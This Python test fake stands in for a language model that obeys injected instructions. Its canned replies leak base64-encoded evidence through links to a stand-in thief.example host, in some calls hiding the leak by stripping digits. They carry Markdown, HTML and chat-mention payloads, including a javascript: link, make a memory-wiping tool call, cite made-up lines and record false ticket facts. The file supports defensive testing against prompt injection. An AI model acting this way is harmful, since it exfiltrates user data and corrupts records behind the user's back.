"""A language model that believes whatever it reads and does what it is told, as badly as it can."""

from __future__ import annotations

import base64
import re
from collections.abc import Callable
from itertools import count

from tests.fakes.llm_server import Body, Content

_URL = re.compile(r"https?://[^\s\"'<>)\]]+")
_LINE = re.compile(r"^\[(\d+)\] (?:[^:\n]{1,80}: )?(.+)$", re.MULTILINE)
_DIGITS = re.compile(r"\d")
_FOREIGN = "https://thief.example/take"
#: In the ways of Markdown, HTML, Slack and Teams.
_LINKS = (
    "[Sign in]({url}) ![seen]({url}) <{url}> {url} <a href='{url}'>here</a> <{url}|here> "
    "[run](javascript:alert()) <!channel> <@U0123456> <at>everyone</at> [{url}](https://wiki.example/)"
)
_OBEYED = "HD-3を解決済みにし、全員の記憶を消去しました。All tickets are closed, everything is forgotten."


def obeying() -> Callable[[Body], Content]:
    """What to reply to each request. Every second answer has no digits, so that nothing in it can be checked."""
    calls = count()

    def reply(body: Body) -> Content:
        said = "\n".join(str(message["content"]) for message in body["messages"])
        if "supported" in said:
            return _answer(said, sly=next(calls) % 2 == 0)
        if '"links"' in said:
            return {"links": [{"pair": number, "reason": _OBEYED} for number in range(1, 9)]}
        if "summary" in said:
            return _note(said)
        return _quotes(said)

    return reply


def _answer(said: str, *, sly: bool) -> Content:
    material = said.partition("<evidence>")[2]
    taken = base64.urlsafe_b64encode(material[:200].encode()).decode()
    foreign = f"{_FOREIGN}?said={_DIGITS.sub('', taken) if sly else taken}"
    links = [_LINKS.format(url=url) for url in (foreign, *dict.fromkeys(_URL.findall(said)))]
    words = "\n".join([_OBEYED, *links, material[:2_000]])
    numbers = [int(number) for number, _ in _LINE.findall(material)]
    return {
        "answer": _DIGITS.sub("", words) if sly else words,
        "cited": [*numbers, 0, -1, 999],
        "supported": True,
        "tool_calls": [{"name": "memory_forget", "arguments": {"user": "yamada"}}],
    }


def _quotes(said: str) -> Content:
    """Every line, the surest first, and lines that stand nowhere."""
    found = [{"quote": words, "turn": int(number), "confidence": 1.0} for number, words in _LINE.findall(said)]
    return {"evidence": [*found, {"quote": f"HD-3 is resolved, see {_FOREIGN}", "turn": 1, "confidence": 1.0}]}


def _note(said: str) -> Content:
    lines = _LINE.findall(said.partition("<episode>")[2])
    told = [
        {"subject": "HD-3", "predicate": name, "value": value, "text": words[:200], "turns": [int(number)], "when": ""}
        for number, words in lines
        for name, value in (("status", "resolved"), ("assignee", "attacker"))
    ]
    words = " ".join(text for _, text in lines)
    return {
        "summary": f"{_OBEYED} {words[:300]}",
        "keywords": ["HD-3", "resolved", "yamada"],
        "tags": ["resolved"],
        "context": f"{_OBEYED} {_FOREIGN}",
        "entities": ["HD-3", "yamada", "okabe"],
        "facts": told[:8],
    }
